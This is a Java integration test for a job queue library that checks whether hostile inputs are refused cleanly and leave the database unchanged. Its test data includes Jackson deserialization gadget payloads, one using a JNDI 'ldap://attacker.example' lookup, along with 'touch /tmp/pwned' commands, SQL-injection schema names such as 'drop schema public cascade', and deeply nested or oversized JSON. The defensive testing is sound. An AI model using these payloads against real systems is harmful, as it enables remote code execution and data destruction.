package dev.jobqueue.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.annotation.JsonTypeInfo;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import dev.jobqueue.CreateJobOptions;
import dev.jobqueue.Job;
import dev.jobqueue.JobFilters;
import dev.jobqueue.JobHandler;
import dev.jobqueue.JobPriority;
import dev.jobqueue.JobQueueConfig;
import dev.jobqueue.JobQueueManager;
import dev.jobqueue.JobStatus;
import dev.jobqueue.JobValidationException;
import dev.jobqueue.testing.EngineTestSupport;
import dev.jobqueue.testing.JobQueueExtension;
import dev.jobqueue.testing.JobRows;
import dev.jobqueue.testing.TestDatabase;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Scenario 11 of the reliability suite, part 1: randomized, property-style queries through the
 * public API. Every filter value and combination either works (and returns only matching jobs) or
 * is refused with the documented {@link IllegalArgumentException} (or {@link NullPointerException}
 * for a null) naming the field; {@code getJob}, {@code cancelJob} and {@code retryJob} take any
 * string. No SQL error ever escapes, and the jobs table is unchanged afterwards.
 *
 * <p>The reduced run (1,000 cases, fixed seed) is part of the default build; the full run (10,000
 * cases, a new seed each time) is tagged {@code reliability}. Replay a failure with {@code
 * -Djobqueue.hostile.seed=<seed>}. The single-value checks this builds on are in {@code
 * JobFiltersTest}, {@code GetJobsIT} and {@code JobIdsTest}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT {

  /** The seed of the reduced run in the default build. */
  static final long REDUCED_SEED = 20_261_128L;

  private static final String SEED_PROPERTY = "jobqueue.hostile.seed";
  private static final List<String> SEEDED_TYPES = List.of("fz-a", "fz-b", "fz.c:d");

  /** A handler payload with untyped slots, where default typing would be dangerous. */
  public record Envelope(String to, Object extra, Map<String, Object> data) {}

  /** A payload class that opts in to class-name typing: the library must still refuse it. */
  public record Opted(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Object target) {}

  static final AtomicInteger GADGET_CLASS_INITS = new AtomicInteger();
  static final AtomicInteger GADGET_CONSTRUCTIONS = new AtomicInteger();
  static final AtomicInteger GADGET_SETTER_CALLS = new AtomicInteger();

  /** Counts every attempt to load, create or configure it; no payload may ever do so. */
  public static final class Gadget {
    static {
      GADGET_CLASS_INITS.incrementAndGet();
    }

    /** Counts the construction. */
    public Gadget() {
      GADGET_CONSTRUCTIONS.incrementAndGet();
    }

    /**
     * Counts the call.
     *
     * @param command ignored
     */
    public void setCommand(String command) {
      GADGET_SETTER_CALLS.incrementAndGet();
    }
  }

  @RegisterExtension
  static final JobQueueExtension jobqueue =
      JobQueueExtension.perClass()
          .withManager(
              config -> config.allowUnknownTypes(true),
              JobHandler.of("typed", Envelope.class, (p, c) -> null),
              JobHandler.of("opted", Opted.class, (p, c) -> null));

  private final TestDatabase db = TestDatabase.get();
  private final String schema = jobqueue.schema();
  private final JobRows rows = jobqueue.rows();
  private JobQueueManager jobs;
  private final List<String> ids = new ArrayList<>();
  private final Map<String, Map<String, Object>> payloads = new LinkedHashMap<>();

  @BeforeAll
  void seedJobs() {
    jobs = jobqueue.manager();
    // Jobs whose payloads hold every storable hostile fragment, so that a payload filter built
    // from one of them must find it: the fragment went through as data, not as SQL.
    List<CreateJobOptions> options = new ArrayList<>();
    List<String> storable =
        Hostile.FRAGMENTS.stream()
            .filter(
                f ->
                    f.indexOf('\u0000') < 0
                        && f.chars().noneMatch(c -> Character.isSurrogate((char) c)))
            .toList();
    for (int i = 0; i < storable.size(); i++) {
      Map<String, Object> payload = new LinkedHashMap<>();
      payload.put("text", storable.get(i));
      payload.put("n", i);
      payload.put(storable.get(i), List.of(i, Map.of("deep", storable.get(i))));
      options.add(
          CreateJobOptions.builder(SEEDED_TYPES.get(i % SEEDED_TYPES.size()), payload)
              .priority(JobPriority.values()[i % 3])
              .build());
    }
    List<String> created = jobs.createJobs(options);
    for (int i = 0; i < created.size(); i++) {
      ids.add(created.get(i));
      @SuppressWarnings("unchecked")
      Map<String, Object> payload = (Map<String, Object>) options.get(i).payload();
      payloads.put(created.get(i), payload);
    }
    // Finished jobs, spread over the last hour: cancelJob and retryJob must change none of them.
    db.execute(
        "update \""
            + schema
            + "\".jobs set status = 'completed', attempt = 1, completed_at = now(),"
            + " created_at = now() - (id % 60) * interval '1 minute'");
  }

  /** Removes what the payload tests stored, so that the query cases see only the seeded jobs. */
  @AfterEach
  void removeUnseededJobs() {
    db.execute("delete from \"" + schema + "\".jobs where type not like 'fz%'");
  }

  /** The reduced run of the default build: 1,000 cases, always the same. */
  @Test
  void thousandRandomizedQueriesWithAFixedSeed() {
    runQueryCases(Long.getLong(SEED_PROPERTY, REDUCED_SEED), 1_000, "hostile-queries-reduced");
  }

  /** The full run: 10,000 cases, a new seed each time (printed; replay with the property). */
  @Test
  @Tag("reliability")
  void tenThousandRandomizedQueries() {
    runQueryCases(Long.getLong(SEED_PROPERTY, System.nanoTime()), 10_000, "hostile-queries");
  }

  // ------------------------------------------------------------------------------ query cases

  private void runQueryCases(long seed, int cases, String scenario) {
    System.out.println("HostileInputIT: seed " + seed + " (replay with -D" + SEED_PROPERTY + ")");
    String before = rows.digest();
    Random r = new Random(seed);
    Tally tally = new Tally();
    long started = System.nanoTime();
    for (int i = 0; i < cases; i++) {
      queryCase(r, i, tally);
      idCase(r, i, tally);
    }
    long millis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - started);
    String after = rows.digest();
    System.out.printf(
        Locale.ROOT,
        "RELIABILITY %s: seed=%d, %d filter cases + %d id calls in %d ms; outcomes %s;"
            + " unexpected=%d; jobs table unchanged=%s (%d rows)%n",
        scenario,
        seed,
        cases,
        cases,
        millis,
        tally.outcomes,
        tally.failures.size(),
        before.equals(after),
        rows.count());
    assertThat(tally.failures)
        .as("unexpected outcomes with seed %d (replay with -D%s=%d)", seed, SEED_PROPERTY, seed)
        .isEmpty();
    assertThat(after).as("the jobs table after the run, seed %d", seed).isEqualTo(before);
    // Every kind of outcome was reached, so the generator really exercised each path.
    assertThat(tally.outcomes.keySet())
        .contains(
            "getJobs ok",
            "getJobs found probe",
            "refused type",
            "refused limit",
            "refused offset",
            "refused createdAfter>createdBefore",
            "refused payloadContains",
            "getJob found",
            "getJob empty",
            "cancelJob false",
            "retryJob false");
  }

  /** What one case set, to check the results against. */
  private static final class Expected {
    JobStatus status;
    String type;
    JobPriority priority;
    Instant createdAfter;
    Instant createdBefore;
    Map<String, Object> payloadContains;
    String probeId;
    int limit = JobFilters.DEFAULT_LIMIT;
    final List<String> set = new ArrayList<>();
  }

  private static final class Tally {
    final Map<String, Integer> outcomes = new TreeMap<>();
    final List<String> failures = new ArrayList<>();

    void count(String outcome) {
      outcomes.merge(outcome, 1, Integer::sum);
    }

    void fail(int caseNo, String what, Object detail) {
      if (failures.size() < 50) {
        failures.add("case " + caseNo + ": " + what + ": " + Hostile.describe(detail));
      }
    }
  }

  private void queryCase(Random r, int caseNo, Tally tally) {
    JobFilters.Builder builder = JobFilters.builder();
    Expected expected = new Expected();
    int setters = r.nextInt(7);
    for (int s = 0; s < setters; s++) {
      applyRandomSetter(r, builder, expected, caseNo, tally);
    }
    boolean inverted =
        expected.createdAfter != null
            && expected.createdBefore != null
            && expected.createdAfter.isAfter(expected.createdBefore);
    JobFilters filters;
    try {
      filters = builder.build();
    } catch (IllegalArgumentException e) {
      if (inverted && e.getMessage().contains("createdAfter")) {
        tally.count("refused createdAfter>createdBefore");
      } else {
        tally.fail(caseNo, "build() refused " + expected.set, e);
      }
      return;
    } catch (RuntimeException e) {
      tally.fail(caseNo, "build() threw " + e.getClass().getName(), e);
      return;
    }
    if (inverted) {
      tally.fail(caseNo, "build() accepted an inverted range", expected.set);
      return;
    }
    List<Job> found;
    try {
      found = jobs.getJobs(filters);
    } catch (IllegalArgumentException e) {
      if (expected.payloadContains != null && e.getMessage().contains("payloadContains")) {
        tally.count("refused payloadContains");
      } else {
        tally.fail(caseNo, "getJobs refused " + expected.set + " with " + e.getMessage(), filters);
      }
      return;
    } catch (RuntimeException e) {
      tally.fail(caseNo, "getJobs threw " + e + " for " + expected.set, filters);
      return;
    }
    tally.count("getJobs ok");
    checkResults(found, expected, caseNo, tally);
  }

  private void applyRandomSetter(
      Random r, JobFilters.Builder builder, Expected expected, int caseNo, Tally tally) {
    switch (r.nextInt(8)) {
      case 0 -> {
        JobStatus status = r.nextInt(10) == 0 ? null : Hostile.pick(r, List.of(JobStatus.values()));
        if (set("status", () -> builder.status(status), status, caseNo, tally, expected)) {
          expected.status = status;
        }
      }
      case 1 -> {
        String type =
            r.nextInt(10) == 0
                ? null
                : r.nextBoolean() ? Hostile.pick(r, SEEDED_TYPES) : Hostile.string(r);
        if (set("type", () -> builder.type(type), type, caseNo, tally, expected)) {
          expected.type = type;
        }
      }
      case 2 -> {
        JobPriority priority =
            r.nextInt(10) == 0 ? null : Hostile.pick(r, List.of(JobPriority.values()));
        if (set("priority", () -> builder.priority(priority), priority, caseNo, tally, expected)) {
          expected.priority = priority;
        }
      }
      case 3 -> {
        Instant after = r.nextInt(20) == 0 ? null : Hostile.instant(r);
        if (set(
            "createdAfter", () -> builder.createdAfter(after), after, caseNo, tally, expected)) {
          expected.createdAfter = after;
        }
      }
      case 4 -> {
        Instant before = r.nextInt(20) == 0 ? null : Hostile.instant(r);
        if (set(
            "createdBefore",
            () -> builder.createdBefore(before),
            before,
            caseNo,
            tally,
            expected)) {
          expected.createdBefore = before;
        }
      }
      case 5 -> {
        Map<String, Object> contains = payloadFilter(r, expected);
        if (set(
            "payloadContains",
            () -> builder.payloadContains(contains),
            contains,
            caseNo,
            tally,
            expected)) {
          expected.payloadContains = contains;
        }
      }
      case 6 -> {
        int limit = Hostile.edgeInt(r);
        if (set("limit", () -> builder.limit(limit), limit, caseNo, tally, expected)) {
          expected.limit = limit;
        }
      }
      default -> {
        int offset = Hostile.edgeInt(r);
        set("offset", () -> builder.offset(offset), offset, caseNo, tally, expected);
      }
    }
  }

  private Map<String, Object> payloadFilter(Random r, Expected expected) {
    expected.probeId = null;
    int kind = r.nextInt(20);
    if (kind < 4) {
      // A probe: part of a seeded job's payload, which must find that job.
      String id = Hostile.pick(r, ids);
      Map<String, Object> payload = payloads.get(id);
      Map<String, Object> part = new LinkedHashMap<>();
      List<String> keys = new ArrayList<>(payload.keySet());
      String key = Hostile.pick(r, keys);
      part.put(key, payload.get(key));
      if (r.nextBoolean()) {
        part.put("n", payload.get("n"));
      }
      expected.probeId = id;
      return part;
    }
    if (kind == 4) {
      return null;
    }
    if (kind == 5) {
      return Hostile.nestedMap(90 + r.nextInt(40));
    }
    if (kind == 6) {
      return Map.of("big", "x".repeat(1_048_576 + r.nextInt(10)));
    }
    return Hostile.map(r, 0);
  }

  /**
   * Calls one builder setter. A refusal is fine when it is an {@link IllegalArgumentException} or
   * {@link NullPointerException} whose message names the field.
   *
   * @return whether the value was accepted
   */
  private static boolean set(
      String field, Runnable setter, Object value, int caseNo, Tally tally, Expected expected) {
    try {
      setter.run();
      expected.set.add(field + "=" + Hostile.describe(value));
      return true;
    } catch (IllegalArgumentException | NullPointerException e) {
      if (e.getMessage() != null && e.getMessage().contains(field)) {
        tally.count((e instanceof NullPointerException ? "refused null " : "refused ") + field);
      } else {
        tally.fail(caseNo, field + " refused without naming it: " + e, value);
      }
    } catch (RuntimeException e) {
      tally.fail(caseNo, field + " setter threw " + e, value);
    }
    return false;
  }

  private void checkResults(List<Job> found, Expected expected, int caseNo, Tally tally) {
    if (found.size() > expected.limit) {
      tally.fail(caseNo, "more jobs than the limit " + expected.limit, found.size());
    }
    for (Job job : found) {
      boolean matches =
          (expected.status == null || job.status() == expected.status)
              && (expected.type == null || job.type().equals(expected.type))
              && (expected.priority == null || job.priority() == expected.priority)
              && (expected.createdAfter == null || !job.createdAt().isBefore(expected.createdAfter))
              && (expected.createdBefore == null
                  || job.createdAt().isBefore(expected.createdBefore));
      if (!matches) {
        tally.fail(caseNo, "job " + job.id() + " does not match " + expected.set, job);
      }
      if (!ids.contains(job.id())) {
        tally.fail(caseNo, "unknown job returned", job);
      }
    }
    if (expected.probeId != null && expected.payloadContains != null) {
      Job probe = jobs.getJob(expected.probeId).orElseThrow();
      boolean shouldMatch =
          (expected.status == null || probe.status() == expected.status)
              && (expected.type == null || probe.type().equals(expected.type))
              && (expected.priority == null || probe.priority() == expected.priority)
              && (expected.createdAfter == null
                  || !probe.createdAt().isBefore(expected.createdAfter))
              && (expected.createdBefore == null
                  || probe.createdAt().isBefore(expected.createdBefore));
      boolean listed = found.stream().anyMatch(j -> j.id().equals(expected.probeId));
      // Only when nothing else can push it out: the probe's payload is unique to it, and the
      // limit is checked against how many matches there are.
      if (shouldMatch && expected.limit >= ids.size() && !listed && offsetIsZero(expected)) {
        tally.fail(caseNo, "probe job " + expected.probeId + " not found by " + expected.set, "");
      } else if (listed) {
        tally.count("getJobs found probe");
      }
    }
  }

  private static boolean offsetIsZero(Expected expected) {
    return expected.set.stream().noneMatch(s -> s.startsWith("offset=") && !s.equals("offset=0"));
  }

  private void idCase(Random r, int caseNo, Tally tally) {
    String id = Hostile.id(r, ids);
    int op = r.nextInt(3);
    try {
      switch (op) {
        case 0 -> {
          boolean present = jobs.getJob(id).isPresent();
          boolean real = id != null && ids.contains(id);
          if (present != real) {
            tally.fail(caseNo, "getJob found=" + present + " for a real id=" + real, id);
          }
          tally.count(present ? "getJob found" : "getJob empty");
        }
        case 1 -> {
          if (jobs.cancelJob(id)) {
            tally.fail(caseNo, "cancelJob changed a finished job or a non-job", id);
          }
          tally.count("cancelJob false");
        }
        default -> {
          if (jobs.retryJob(id)) {
            tally.fail(caseNo, "retryJob changed a completed job or a non-job", id);
          }
          tally.count("retryJob false");
        }
      }
    } catch (RuntimeException e) {
      tally.fail(caseNo, "id call " + op + " threw " + e, id);
    }
  }

  // ------------------------------------------------------------------------------ payloads

  /**
   * A payload that must be refused.
   *
   * @param name what it tries
   * @param type the job type to create it under
   * @param payload the payload
   */
  private record Refused(String name, String type, Object payload) {}

  private List<Refused> hostilePayloads() {
    String gadget = Gadget.class.getName();
    List<Refused> cases = new ArrayList<>();
    // Polymorphic gadget fields on a typed payload: unknown fields, refused before any binding.
    for (String key : List.of("@class", "@type", "@c", "@id")) {
      cases.add(
          new Refused(
              key + " naming a gadget",
              "typed",
              ordered(key, key.equals("@c") ? ".HostileInputIT$Gadget" : gadget, "command", "id")));
    }
    cases.add(
        new Refused(
            "@class java.net.URL",
            "typed",
            ordered("@class", "java.net.URL", "protocol", "http", "host", "attacker.example")));
    cases.add(
        new Refused(
            "@class JdbcRowSetImpl (JNDI)",
            "typed",
            ordered(
                "@class",
                "com.sun.rowset.JdbcRowSetImpl",
                "dataSourceName",
                "ldap://attacker.example/a",
                "autoCommit",
                true)));
    // A payload class that opts in to class-name typing: the library's type validator allows no
    // class at all.
    for (String target :
        List.of(
            gadget,
            "java.net.URL",
            "java.lang.ProcessBuilder",
            "javax.script.ScriptEngineManager",
            "com.sun.rowset.JdbcRowSetImpl",
            "java.util.HashMap")) {
      cases.add(
          new Refused(
              "opted-in @class " + target,
              "opted",
              Map.of("target", ordered("@class", target, "command", "touch /tmp/pwned"))));
    }
    cases.add(
        new Refused(
            "opted-in wrapper array", "opted", Map.of("target", List.of(gadget, Map.of("a", 1)))));
    // Default-typing shapes at the top: not a JSON object.
    cases.add(
        new Refused(
            "[\"java.util.HashMap\", {...}] (typed)",
            "typed",
            List.of("java.util.HashMap", Map.of("@class", gadget))));
    cases.add(
        new Refused(
            "[\"java.util.HashMap\", {...}] (any type)",
            "any-type",
            List.of("java.util.HashMap", Map.of("@class", gadget))));
    // 10,000 levels deep, as maps, lists, a Jackson tree and JSON text.
    cases.add(new Refused("map 10,000 deep", "any-type", Hostile.nestedMap(10_000)));
    cases.add(
        new Refused(
            "map 10,000 deep in a typed slot",
            "typed",
            ordered("to", "a", "data", Hostile.nestedMap(10_000))));
    cases.add(new Refused("list 10,000 deep", "any-type", Map.of("l", nestedList(10_000))));
    cases.add(new Refused("Jackson tree 10,000 deep", "any-type", nestedTree(10_000)));
    cases.add(
        new Refused(
            "JSON text 10,000 deep",
            "any-type",
            "{\"a\":".repeat(10_000) + "{}" + "}".repeat(10_000)));
    cases.add(new Refused("JSON text (typed)", "typed", "{\"to\": \"a\"}"));
    // Over the size cap (1 MiB of UTF-8).
    cases.add(new Refused("1 MiB + 1 string", "any-type", Map.of("s", "x".repeat(1_048_576))));
    cases.add(
        new Refused(
            "300,000 emoji (1.2 MB)", "typed", ordered("to", "\uD83D\uDE00".repeat(300_000))));
    // U+0000 and unpaired surrogates, which jsonb refuses.
    cases.add(new Refused("U+0000 in a key", "any-type", Map.of("k\u0000", 1)));
    cases.add(new Refused("U+0000 in a value", "any-type", Map.of("v", "a\u0000b")));
    cases.add(
        new Refused(
            "U+0000 deep in a list", "any-type", Map.of("l", List.of(1, Map.of("x", "\u0000")))));
    cases.add(new Refused("U+0000 in a typed field", "typed", ordered("to", "\u0000")));
    cases.add(
        new Refused(
            "U+0000 in a Jackson tree",
            "any-type",
            JsonNodeFactory.instance.objectNode().put("t", "\u0000")));
    cases.add(new Refused("unpaired surrogate", "any-type", Map.of("s", "\uD800x")));
    // Raw JSON text smuggled in as a Jackson RawValue, which is written without being parsed.
    cases.add(
        new Refused(
            "raw JSON with a \\u0000 escape",
            "any-type",
            Map.of("raw", new RawValue("\"\\u0000\""))));
    cases.add(
        new Refused(
            "raw JSON 10,000 deep",
            "any-type",
            Map.of("raw", new RawValue("[".repeat(10_000) + "]".repeat(10_000)))));
    cases.add(
        new Refused("raw JSON that is not JSON", "any-type", Map.of("raw", new RawValue("}{"))));
    // Numbers PostgreSQL's numeric cannot hold.
    cases.add(
        new Refused("1e200000", "any-type", Map.of("n", new java.math.BigDecimal("1e200000"))));
    cases.add(
        new Refused(
            "10^140000 in an untyped slot",
            "typed",
            ordered("to", "a", "extra", java.math.BigInteger.TEN.pow(140_000))));
    return cases;
  }

  /** Every hostile payload is refused by createJob, createJobs and createJob(Connection). */
  @Test
  @Tag("reliability")
  void hostilePayloadsAreRefusedCleanlyAndNothingIsStored() throws SQLException {
    List<Refused> cases = hostilePayloads();
    long rowsBefore = rows.count();
    CreateJobOptions valid = CreateJobOptions.of("typed", new Envelope("ok", null, Map.of()));
    List<String> problems = new ArrayList<>();
    int refusals = 0;
    long started = System.nanoTime();
    for (Refused c : cases) {
      CreateJobOptions hostile = CreateJobOptions.of(c.type(), c.payload());
      refusals += refused(c, "createJob", "payload", () -> jobs.createJob(hostile), problems);
      refusals +=
          refused(
              c,
              "createJobs",
              "jobs[1].payload",
              () -> jobs.createJobs(List.of(valid, hostile, valid)),
              problems);
      try (Connection tx = db.dataSource().getConnection()) {
        tx.setAutoCommit(false);
        jobs.createJob(tx, valid);
        long inTransaction = rows.count(tx, "true");
        refusals +=
            refused(c, "createJob(tx)", "payload", () -> jobs.createJob(tx, hostile), problems);
        refusals +=
            refused(
                c,
                "createJobs(tx)",
                "jobs[0].payload",
                () -> jobs.createJobs(tx, List.of(hostile, valid)),
                problems);
        // The refusal came before any SQL: the transaction is intact and holds only its own job.
        if (rows.count(tx, "true") != inTransaction) {
          problems.add(c.name() + ": the transaction's row count changed");
        }
        jobs.createJob(tx, valid);
        tx.rollback();
      }
      if (rows.count() != rowsBefore) {
        problems.add(c.name() + ": the jobs table changed");
        rowsBefore = rows.count();
      }
    }
    long millis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - started);
    System.out.printf(
        Locale.ROOT,
        "RELIABILITY hostile-payloads: %d payloads x 4 paths (createJob, createJobs,"
            + " createJob(tx), createJobs(tx)): %d refused with JobValidationException, %d"
            + " problems, rows stored 0 (table %d -> %d), gadget class inits %d, constructions %d,"
            + " setter calls %d, %d ms%n",
        cases.size(),
        refusals,
        problems.size(),
        rowsBefore,
        rows.count(),
        GADGET_CLASS_INITS.get(),
        GADGET_CONSTRUCTIONS.get(),
        GADGET_SETTER_CALLS.get(),
        millis);
    assertThat(problems).isEmpty();
    assertThat(refusals).isEqualTo(cases.size() * 4);
    assertGadgetUntouched();
  }

  /**
   * In an untyped slot ({@code Object} or {@code Map}) a gadget-shaped object is plain data: it is
   * stored as JSON and comes back as maps and lists, when read and when a worker runs the job.
   */
  @Test
  @Tag("reliability")
  void gadgetShapesInUntypedSlotsStayInertData() {
    String gadget = Gadget.class.getName();
    Map<String, Object> shape = ordered("@class", gadget, "command", "touch /tmp/pwned");
    List<Object> wrapper = List.of(gadget, Map.of("command", "id"));
    List<Class<?>> seen = new java.util.concurrent.CopyOnWriteArrayList<>();
    try (EngineTestSupport support = new EngineTestSupport(db, schema)) {
      support.start(
          "inert-runner",
          EngineTestSupport.fastConfig(schema).build(),
          JobHandler.of(
              "inert",
              Envelope.class,
              (p, c) -> {
                seen.add(p.extra().getClass());
                seen.add(p.data().get("w").getClass());
                return null;
              }));
      String id =
          jobs.createJob(
              CreateJobOptions.of(
                  "inert", ordered("to", "a", "extra", shape, "data", Map.of("w", wrapper))));
      Envelope read = jobs.getJob(id).orElseThrow().payloadAs(Envelope.class);
      assertThat(read.extra()).isInstanceOf(Map.class).isEqualTo(shape);
      org.awaitility.Awaitility.await()
          .atMost(java.time.Duration.ofSeconds(30))
          .until(() -> jobs.getJob(id).orElseThrow().status() == JobStatus.COMPLETED);
    }
    System.out.println(
        "RELIABILITY hostile-payloads-inert: gadget shapes in untyped slots stored as data; the"
            + " handler saw "
            + seen
            + "; gadget class inits "
            + GADGET_CLASS_INITS.get()
            + ", constructions "
            + GADGET_CONSTRUCTIONS.get());
    assertThat(seen)
        .allSatisfy(
            type ->
                assertThat(Map.class.isAssignableFrom(type) || List.class.isAssignableFrom(type))
                    .isTrue());
    assertThat(seen).hasSize(2);
    assertGadgetUntouched();
  }

  private int refused(
      Refused c, String path, String fieldPrefix, Runnable call, List<String> problems) {
    try {
      call.run();
      problems.add(c.name() + " via " + path + ": accepted");
      return 0;
    } catch (JobValidationException e) {
      boolean named = e.errors().stream().anyMatch(f -> f.field().startsWith(fieldPrefix));
      if (!named) {
        problems.add(
            c.name() + " via " + path + ": error names no " + fieldPrefix + ": " + e.getMessage());
        return 0;
      }
      return 1;
    } catch (RuntimeException e) {
      problems.add(c.name() + " via " + path + ": threw " + e);
      return 0;
    }
  }

  private static void assertGadgetUntouched() {
    assertThat(GADGET_CLASS_INITS).as("Gadget class initializations").hasValue(0);
    assertThat(GADGET_CONSTRUCTIONS).as("Gadget constructions").hasValue(0);
    assertThat(GADGET_SETTER_CALLS).as("Gadget setter calls").hasValue(0);
  }

  private static Map<String, Object> ordered(Object... keysAndValues) {
    Map<String, Object> map = new LinkedHashMap<>();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      map.put((String) keysAndValues[i], keysAndValues[i + 1]);
    }
    return map;
  }

  private static List<Object> nestedList(int levels) {
    List<Object> current = new ArrayList<>();
    for (int i = 1; i < levels; i++) {
      List<Object> outer = new ArrayList<>();
      outer.add(current);
      current = outer;
    }
    return current;
  }

  private static ObjectNode nestedTree(int levels) {
    ObjectNode root = JsonNodeFactory.instance.objectNode();
    ObjectNode current = root;
    for (int i = 1; i < levels; i++) {
      current = current.putObject("a");
    }
    return root;
  }

  // ------------------------------------------------------------------------------ schema names

  /**
   * Hostile schema names fail when the configuration is built, from the builder and from {@code
   * JOB_QUEUE_SCHEMA}, and the database gains no schema.
   */
  @Test
  @Tag("reliability")
  void hostileSchemaNamesAreRejectedAndCreateNothing() {
    List<String> names =
        List.of(
            "x\"y",
            "\"",
            "a;b",
            "a; drop schema public cascade; --",
            "$$",
            "$x$",
            "%I",
            "a%Ib",
            "%s",
            "has space",
            " lead",
            "trail ",
            "Upper",
            "UPPER",
            "",
            " ",
            "a".repeat(64),
            "\u00e9".repeat(32), // 32 characters, 64 bytes
            "a" + "\u00e9".repeat(31), // 32 characters, 63 bytes: still not ASCII
            "\u65e5".repeat(22), // 22 characters, 66 bytes
            "sch\u00e9ma",
            "\u0130d", // dotted capital I, which lower-cases to two characters
            "\uFF41", // full-width a
            "a\u200F",
            "a\u0000",
            "a-b",
            "a.b",
            "1abc",
            "pg_catalog",
            "pg_temp",
            "pg_toast",
            "pg_jobs",
            "information_schema");
    long schemasBefore = db.queryLong("select count(*) from pg_namespace");
    int builderRejected = 0;
    int environmentRejected = 0;
    List<String> environmentTrimmed = new ArrayList<>();
    for (String name : names) {
      org.assertj.core.api.Assertions.assertThatThrownBy(
              () -> JobQueueConfig.builder().schema(name))
          .as("builder schema(%s)", Hostile.describe(name))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("schema")
          .hasMessageContaining("'" + name + "'");
      builderRejected++;
      String trimmed = name.trim();
      if (trimmed.isEmpty()) {
        // A blank variable counts as unset (documented): the default schema, never the value.
        assertThat(JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)).schema())
            .isEqualTo("jobqueue");
        environmentTrimmed.add("'" + name + "' -> default");
        continue;
      }
      if (!trimmed.equals(name) && JobQueueConfig.SCHEMA_PATTERN.matcher(trimmed).matches()) {
        // Variables are trimmed (documented): only the valid name inside is used.
        assertThat(JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)).schema())
            .isEqualTo(trimmed);
        environmentTrimmed.add("'" + name + "' -> '" + trimmed + "'");
        continue;
      }
      org.assertj.core.api.Assertions.assertThatThrownBy(
              () -> JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)))
          .as("JOB_QUEUE_SCHEMA=%s", Hostile.describe(name))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("JOB_QUEUE_SCHEMA");
      environmentRejected++;
    }
    long schemasAfter = db.queryLong("select count(*) from pg_namespace");
    System.out.printf(
        Locale.ROOT,
        "RELIABILITY hostile-schema-names: %d names; builder rejected %d; JOB_QUEUE_SCHEMA rejected"
            + " %d, trimmed or blank %s; pg_namespace %d -> %d%n",
        names.size(),
        builderRejected,
        environmentRejected,
        environmentTrimmed,
        schemasBefore,
        schemasAfter);
    assertThat(schemasAfter).isEqualTo(schemasBefore);
  }

  // ------------------------------------------------------------------------------ helpers
}
